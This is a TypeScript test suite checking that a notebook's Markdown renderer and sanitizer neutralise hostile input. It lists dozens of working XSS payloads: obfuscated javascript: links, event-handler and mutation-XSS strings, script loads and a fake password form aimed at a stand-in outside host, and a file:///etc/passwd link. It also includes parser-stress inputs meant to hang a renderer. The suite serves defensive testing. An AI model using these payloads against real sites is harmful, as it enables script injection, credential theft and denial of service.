import { describe, expect, test } from 'vitest';
import { renderMarkdown, sanitizeHtml } from '../../src/notebook/markdown.ts';

/** The HTML as a browser understands it, without running anything in it. */
async function rendered(text: string): Promise<HTMLElement> {
  return new DOMParser().parseFromString(await renderMarkdown(text), 'text/html').body;
}

describe('a note', () => {
  test('has headings, emphasis, lists, tables, code and links', async () => {
    const body = await rendered('# Load\n\n**hot** and *cold* ~~gone~~ `code`\n\n- one\n- two\n\n| e | p |\n|---|--:|\n| 0 | 1 % |\n\n```js\na < b\n```\n\nx<sub>1</sub><br>y');
    const missing = ['h1', 'strong', 'em', 'del', 'code', 'ul > li', 'table td', 'pre', 'sub', 'br'].filter((tag) => !body.querySelector(tag));
    expect(missing).toEqual([]);
    expect(body.querySelector('pre')?.textContent).toBe('a < b\n');
  });

  test.each(['https://arxiv.org/abs/2404.16914', 'http://localhost/', 'mailto:someone@example.org', '#n=abc'])('links to %s, in a tab that knows nothing of this one', async (href) => {
    const link = (await rendered(`[paper](${href} "title")`)).querySelector('a');
    expect(link?.getAttribute('href')).toBe(href);
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(link?.getAttribute('target')).toBe('_blank');
  });
});

const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '![x](https://elsewhere.example/track.png)',
  '![x](data:image/png;base64,AAAA)',
  '![x](x"onerror="alert(1))',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://elsewhere.example/1)',
  '[x](file:///etc/passwd)',
  '[x](//elsewhere.example/)',
  '[x](https://a.example "onmouseover=alert(1) x=")',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '<a href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<style>body{background:url(https://elsewhere.example/x)}</style>',
  '<p style="background:url(https://elsewhere.example/x)">x</p>',
  '<link rel=stylesheet href=https://elsewhere.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://elsewhere.example">',
  '<base href=https://elsewhere.example/>',
  '<iframe src=https://elsewhere.example srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=https://elsewhere.example/x></object><embed src=https://elsewhere.example/x>',
  '<form action=https://elsewhere.example><input name=password><button>Sign in</button></form>',
  '<video src=https://elsewhere.example/x autoplay><source src=x onerror=alert(1)></video>',
  '<audio src=https://elsewhere.example/x></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<sub onclick=alert(1)>x</sub>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<div id=app name=body>x</div>',
  '<a href=https://a.example ping=https://elsewhere.example>x</a>',
  '```"><script>alert(1)</script>\nx\n```',
  '`<img src=x onerror=alert(1)>`',
  '<https://a.example/"onclick="alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<br/onload=alert(1)>',
];
const allowedTags = new Set(['A', 'BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'EM', 'H1', 'H2', 'H3', 'H4', 'H5', 'H6', 'HR', 'KBD', 'LI', 'MARK', 'OL', 'P', 'PRE', 'STRONG', 'SUB', 'SUP', 'TABLE', 'TBODY', 'TD', 'TH', 'THEAD', 'TR', 'UL']);
const allowedAttributes = new Set(['align', 'href', 'rel', 'start', 'target', 'title']);

function expectHarmless(body: HTMLElement): void {
  for (const element of body.querySelectorAll('*')) {
    expect(allowedTags).toContain(element.tagName);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name } of element.attributes) expect(allowedAttributes).toContain(name);
    const href = element.getAttribute('href');
    if (href !== null) {
      expect(href).toMatch(/^(https?:|mailto:|#)/i);
      expect(['http:', 'https:', 'mailto:']).toContain(new URL(href, 'https://here.example/').protocol);
    }
  }
}

describe('a hostile note leaves nothing but prose and links to the web', () => {
  test.each(hostile)('%s', async (text) => {
    expectHarmless(await rendered(text));
  });

  test.each(hostile)('%s, as HTML that came past the Markdown parser', async (html) => {
    expectHarmless(new DOMParser().parseFromString(await sanitizeHtml(html), 'text/html').body);
  });

  test('all of it together', async () => {
    expectHarmless(new DOMParser().parseFromString(await sanitizeHtml(hostile.join('')), 'text/html').body);
    expectHarmless(await rendered(hostile.join('\n\n')));
    expectHarmless(await rendered(hostile.join('')));
    expectHarmless(await rendered(`> - ${hostile.join(' | ')}`));
  });

  test('text is still there to read', async () => {
    expect((await rendered('before\n\n<script>alert(1)</script>\n\nafter')).textContent).toContain('after');
  });

  test('inserted into the page it runs nothing and fetches nothing', async () => {
    const host = document.createElement('div');
    document.body.append(host);
    let alerts = 0;
    const { alert } = window;
    window.alert = () => {
      alerts++;
    };
    const before = performance.getEntriesByType('resource').length;
    const html = await renderMarkdown(hostile.join('\n\n'));
    const fetched = performance.getEntriesByType('resource').length;
    host.append(document.createRange().createContextualFragment(html));
    for (const element of host.querySelectorAll<HTMLElement>('*')) {
      for (const type of ['mouseover', 'focus', 'load', 'error', 'toggle']) element.dispatchEvent(new Event(type));
    }
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(alerts).toBe(0);
    const elsewhere = performance.getEntriesByType('resource').slice(before).filter(({ name }) => name.includes('elsewhere') || name.startsWith('data:'));
    expect(elsewhere).toEqual([]);
    expect(performance.getEntriesByType('resource')).toHaveLength(fetched);
    window.alert = alert;
    host.remove();
  });
});

describe('a note made to hurt the parser', () => {
  test('is shown as written after two seconds, while the page stays free, and the next note is drawn', async () => {
    await renderMarkdown('warm');
    const text = 'h=*'.repeat(33_000);
    let frames = 0;
    let running = true;
    const frame = (): void => {
      frames++;
      if (running) requestAnimationFrame(frame);
    };
    requestAnimationFrame(frame);
    const from = performance.now();
    const [html, next] = await Promise.all([renderMarkdown(text), renderMarkdown('*next*')]);
    running = false;
    expect(performance.now() - from).toBeLessThan(15_000);
    expect(frames).toBeGreaterThan(10);
    expect(new DOMParser().parseFromString(html, 'text/html').querySelector('pre')?.textContent).toBe(text);
    expect(next.trim()).toBe('<p><em>next</em></p>');
  });

  test.each([
    ['deep quotes', '>'.repeat(100_000)],
    ['open brackets', '['.repeat(100_000)],
    ['open tags', '<b><i a=1>'.repeat(10_000)],
    ['a reference used twelve thousand times', `[a]: https://a.example/${'x'.repeat(50_000)}\n\n${'[a] '.repeat(12_000)}`],
  ])('%s', async (_, text) => {
    const from = performance.now();
    expectHarmless(await rendered(text));
    expect(performance.now() - from).toBeLessThan(15_000);
  });
});
